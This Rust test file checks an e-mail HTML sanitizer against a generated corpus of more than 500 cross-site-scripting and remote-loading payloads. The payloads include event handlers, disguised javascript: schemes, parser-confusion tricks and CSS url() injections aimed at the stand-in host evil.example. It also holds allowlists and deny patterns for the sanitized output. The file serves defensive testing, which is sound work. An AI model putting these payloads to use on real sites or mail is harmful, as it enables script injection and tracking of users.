//! HTML that tries to run something or to call home, in more than five hundred forms. The same corpus goes through a
//! real browser in the workspace's journeys: it is written to `target/mail-html.json`.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use voorzet_channels::mail::harmless;

/// What must not happen: a script calls this, or this host is asked for something.
const RUN: &str = "window.ran=1";
const HOST: &str = "https://evil.example";

/// Every form, by name.
pub(super) fn corpus() -> Vec<(String, String)> {
    let mut corpus = Vec::new();
    let mut add = |name: &str, html: String| corpus.push((format!("{name} {}", corpus.len()), html));
    let tags = [
        "a", "img", "svg", "body", "input", "video", "audio", "details", "iframe", "object", "embed", "form",
        "math", "p", "table", "td", "style", "marquee", "select", "textarea", "x", "font", "button",
        "isindex",
    ];
    let events = [
        "onload",
        "onerror",
        "onclick",
        "onmouseover",
        "onfocus",
        "ontoggle",
        "onpointerenter",
        "onanimationstart",
        "ONLOAD",
    ];
    for tag in tags {
        for event in events {
            add("event", format!("<{tag} {event}={RUN} src=x autofocus open>x</{tag}>"));
        }
    }
    for separator in ["/", "\t", "\n", "\r", "\u{c}", "/ / ", "\"", "'", "\u{a0}"] {
        for quote in ["", "\"", "'", "`"] {
            add("separated", format!("<img{separator}src=x{separator}onerror={quote}{RUN}{quote}>"));
        }
    }
    let schemes = [
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "java\0script:",
        " javascript:",
        "\u{1}javascript:",
        "&#106;avascript:",
        "&#x6a;avascript:",
        "&#0000106avascript:",
        "javascript&colon;",
        "java&Tab;script:",
        "vbscript:",
        "livescript:",
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=",
        "blob:",
        "view-source:javascript:",
        "feed:javascript:",
        "//evil.example/",
        "\\\\evil.example\\",
        "remote:javascript:",
        "cid:\" onerror=\"",
    ];
    for scheme in schemes {
        for (tag, attribute) in [
            ("a", "href"),
            ("img", "src"),
            ("iframe", "src"),
            ("form", "action"),
            ("base", "href"),
            ("link", "href"),
            ("td", "background"),
            ("a", "xlink:href"),
            ("object", "data"),
        ] {
            add("scheme", format!("<{tag} {attribute}=\"{scheme}{RUN}\">x</{tag}>"));
        }
    }
    let raw = [
        "style",
        "script",
        "title",
        "textarea",
        "noscript",
        "xmp",
        "iframe",
        "noembed",
        "noframes",
        "plaintext",
        "template",
        "svg",
        "math",
        "select",
        "comment",
    ];
    for outer in raw {
        add("raw", format!("<{outer}><img src=x onerror={RUN}></{outer}>"));
        add("raw", format!("<{outer}><!--</{outer}><img src=x onerror={RUN}>-->"));
        add("raw", format!("<{outer}><p title=\"</{outer}><img src=x onerror={RUN}>\">"));
        add("raw", format!("<svg><{outer}><script>{RUN}</script></{outer}></svg>"));
        add(
            "raw",
            format!(
                "<math><mtext><table><mglyph><{outer}><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">"
            ),
        );
        add("raw", format!("<{outer} <script>{RUN}</script>"));
    }
    for broken in [
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<<script>RUN//<</script>",
        "<script\n>RUN</script\n>",
        "<script/x>RUN</script>",
        "<script>RUN",
        "<SCRIPT SRC=HOST/x.js></SCRIPT>",
        "<script src=//evil.example/x></script>",
        "<img src=\"x\"\"onerror=RUN>",
        "<img src='x' onerror='RUN' / >",
        "<p><svg><p><style><a id=\"</style><img src=1 onerror=RUN>\">",
        "<![CDATA[<script>RUN</script>]]>",
        "<?xml version=\"1.0\"?><script>RUN</script>",
        "<!--[if IE]><script>RUN</script><![endif]-->",
        "<!-- --!><img src=x onerror=RUN>",
        "<!--><img src=x onerror=RUN>-->",
        "<!---><img src=x onerror=RUN>-->",
        "<table><td><script>RUN</script>",
        "<a href=x\tonclick=RUN>x</a>",
        "<a href=\"x\nonclick=RUN\">x</a>",
        "</p onclick=RUN>",
        "<br/onload=RUN>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
        "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
        "<meta http-equiv=refresh content=\"0;url=HOST\">",
        "<base href=HOST/><a href=x>x</a>",
        "<link rel=stylesheet href=HOST/x.css>",
        "<input type=image src=HOST/x.png>",
        "<button formaction=javascript:RUN>x</button>",
        "<form action=HOST><input name=a></form>",
        "<portal src=HOST>",
        "<img srcset=\"HOST/a.png 1x\">",
        "<img src=x lowsrc=HOST/a.png>",
        "<img dynsrc=HOST/a.png>",
        "<video poster=HOST/a.png><source src=HOST/a.mp4></video>",
        "<audio src=HOST/a.mp3>",
        "<picture><source srcset=HOST/a.png><img></picture>",
        "<body background=HOST/a.png>",
        "<table background=HOST/a.png><td background=HOST/b.png>",
        "<bgsound src=HOST/a>",
        "<layer src=HOST></layer>",
        "<svg><image href=HOST/a.png></svg>",
        "<svg><use href=\"data:image/svg+xml,x\"></svg>",
        "<svg><animate attributeName=href values=javascript:RUN /></svg>",
        "<a><svg><set attributeName=href to=javascript:RUN>",
        "<object data=HOST/x.swf></object>",
        "<embed src=HOST/x.swf>",
        "<applet code=x codebase=HOST>",
        "<frameset><frame src=HOST></frameset>",
        "<xss style=x:expression(RUN)>",
        "<style>@import url(HOST/x.css);</style>",
        "<style>body{background:url(HOST/x)}</style>",
        "<link rel=dns-prefetch href=HOST>",
        "<link rel=preload as=image href=HOST/x>",
        "<a href=HOST ping=HOST/p>x</a>",
        "<q cite=HOST>x</q>",
        "<track src=HOST>",
        "<command icon=HOST>",
        "<html manifest=HOST/m>",
        "<img usemap=#m><map name=m><area href=javascript:RUN></map>",
        "<div id=x name=document><a id=ran></a></div>",
        "<img src=1 href=1 onerror=\"&#119;indow.ran=1\">",
        "<a target=_self href=https://a.example>x</a>",
    ] {
        add("broken", broken.replace("RUN", RUN).replace("HOST", HOST));
    }
    for style in [
        "background:url(HOST/a)",
        "background-image:url('HOST/a')",
        "background:URL(\"HOST/a\")",
        "background:u\\72l(HOST/a)",
        "background:ur/**/l(HOST/a)",
        "list-style:url(HOST/a)",
        "content:url(HOST/a)",
        "cursor:url(HOST/a),auto",
        "background:image-set('HOST/a' 1x)",
        "background:-webkit-image-set(url(HOST/a) 1x)",
        "border-image:url(HOST/a)",
        "mask:url(HOST/a)",
        "filter:url(HOST/a#b)",
        "width:expression(RUN)",
        "behavior:url(HOST/a)",
        "-moz-binding:url(HOST/a)",
        "color:red;background:url(HOST/a)",
        "font:1px '};@import url(HOST/a)'",
        "--x:url(HOST/a);background:var(--x)",
        "background:cross-fade(url(HOST/a),red)",
        "src:url(HOST/a)",
        "background:url(//evil.example/a)",
        "background:red url( HOST/a )",
        "position:fixed;top:0;left:0;width:100%;height:100%",
        "background:element(#a)",
        "font-family:'a\\27;background:url(HOST/a)'",
        "color:red}</style><script>RUN</script>",
    ] {
        for (tag, quote) in [("p", "\""), ("table", "'"), ("a", "\"")] {
            let style = style.replace("HOST", HOST).replace("RUN", RUN);
            let style =
                if quote == "\"" { style.replace('"', "&quot;") } else { style.replace('\'', "&#39;") };
            add("style", format!("<{tag} style={quote}{style}{quote}>x</{tag}>"));
        }
    }
    corpus
}

/// That HTML runs nothing and loads nothing: its tags, attributes and addresses are those of the list. It reads what
/// came out by rules of its own, so that it is no echo of what made it.
pub(super) fn assert_harmless(html: &str) {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let after = rest[start + 1..].trim_start_matches('/');
        let name: String = after.chars().take_while(char::is_ascii_alphanumeric).collect();
        let known = [
            "a",
            "abbr",
            "address",
            "b",
            "bdi",
            "bdo",
            "big",
            "blockquote",
            "br",
            "caption",
            "center",
            "cite",
            "code",
            "col",
            "colgroup",
            "dd",
            "del",
            "dfn",
            "div",
            "dl",
            "dt",
            "em",
            "font",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "i",
            "img",
            "ins",
            "kbd",
            "li",
            "ol",
            "p",
            "pre",
            "q",
            "s",
            "samp",
            "small",
            "span",
            "strike",
            "strong",
            "sub",
            "sup",
            "table",
            "tbody",
            "td",
            "tfoot",
            "th",
            "thead",
            "tr",
            "u",
            "ul",
        ];
        assert!(known.contains(&name.as_str()), "<{name}> in {html}");
        rest = attributes(&after[name.len()..], html);
    }
}

/// Looks at the attributes of a tag; gives what follows it.
fn attributes<'a>(mut rest: &'a str, html: &str) -> &'a str {
    loop {
        rest = rest.trim_start();
        if let Some(after) = rest.strip_prefix('>') {
            return after;
        }
        let (name, value) =
            rest.split_once("=\"").unwrap_or_else(|| panic!("no attribute at {rest} in {html}"));
        let (value, after) = value.split_once('"').expect("a value ends");
        let known = [
            "href",
            "src",
            "alt",
            "title",
            "lang",
            "dir",
            "align",
            "style",
            "width",
            "height",
            "border",
            "cellpadding",
            "cellspacing",
            "bgcolor",
            "valign",
            "colspan",
            "rowspan",
            "scope",
            "span",
            "start",
            "type",
            "color",
            "face",
            "size",
            "rel",
            "target",
        ];
        assert!(known.contains(&name), "{name} in {html}");
        let lower = value.to_lowercase();
        match name {
            "href" => assert!(
                ["http:", "https:", "mailto:", "tel:"]
                    .iter()
                    .any(|scheme| lower.trim_start().starts_with(scheme)),
                "{value}"
            ),
            "src" => assert!(
                [
                    "cid:",
                    "remote:http:",
                    "remote:https:",
                    "data:image/png;",
                    "data:image/jpeg;",
                    "data:image/gif;",
                    "data:image/webp;"
                ]
                .iter()
                .any(|scheme| lower.starts_with(scheme)),
                "{value}"
            ),
            "style" => {
                for bad in [
                    "url",
                    "expression",
                    "import",
                    "position",
                    "var(",
                    "\\",
                    "//",
                    "@",
                    "image",
                    "behavior",
                    "binding",
                ] {
                    assert!(!lower.contains(bad), "{value}");
                }
            }
            _ => {}
        }
        rest = after;
    }
}

#[test]
fn nothing_runs_and_nothing_is_loaded() {
    let corpus = corpus();
    let distinct: BTreeSet<&str> = corpus.iter().map(|(_, html)| html.as_str()).collect();
    assert!(distinct.len() >= 500, "{}", distinct.len());
    let mut made = Vec::new();
    for (name, html) in &corpus {
        let harmless = harmless(html).expect("short");
        assert_harmless(&harmless.html);
        made.push(serde_json::json!({"name": name, "html": html, "harmless": harmless.html, "remote": harmless.remote}));
    }
    // For the journeys in a browser: `evil.example` must not be asked for anything, `window.ran` must not be set.
    let target = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target");
    fs::write(target.join("mail-html.json"), serde_json::to_string(&made).expect("JSON")).expect("written");
}

#[test]
fn what_mail_looks_like_stays() {
    let check =
        |html: &str, expected: &str| assert_eq!(harmless(html).expect("short").html, expected, "{html}");
    check(
        "<TABLE width=600 bgcolor='#fff'><tr><td align=center style='color:red; position:absolute'>x<td>y</table>",
        "<table width=\"600\" bgcolor=\"#fff\"><tbody><tr><td align=\"center\" style=\"color: red\">x</td><td>y</td></tr></tbody></table>",
    );
    check("a < b & c > d &amp; &eacute;", "a &lt; b &amp; c &gt; d &amp; é");
    check("<b><i>x</b>y</i>", "<b><i>x</i></b>y");
    check(
        "<a href=\"https://a.example/?x=1&y=2\" onclick=x>z</a>",
        "<a href=\"https://a.example/?x=1&amp;y=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">z</a>",
    );
    check("<img src=data:image/png;base64,AAAA alt=x>", "<img src=\"data:image/png;base64,AAAA\" alt=\"x\">");
    check("<p>een<p>twee", "<p>een</p><p>twee</p>");
    assert!(harmless("<img src=http://x.example/a.gif>").expect("short").remote);
    assert!(harmless("<table background=http://x.example/a.gif>").expect("short").remote);
    assert!(!harmless("<img src=cid:a>").expect("short").remote);
}
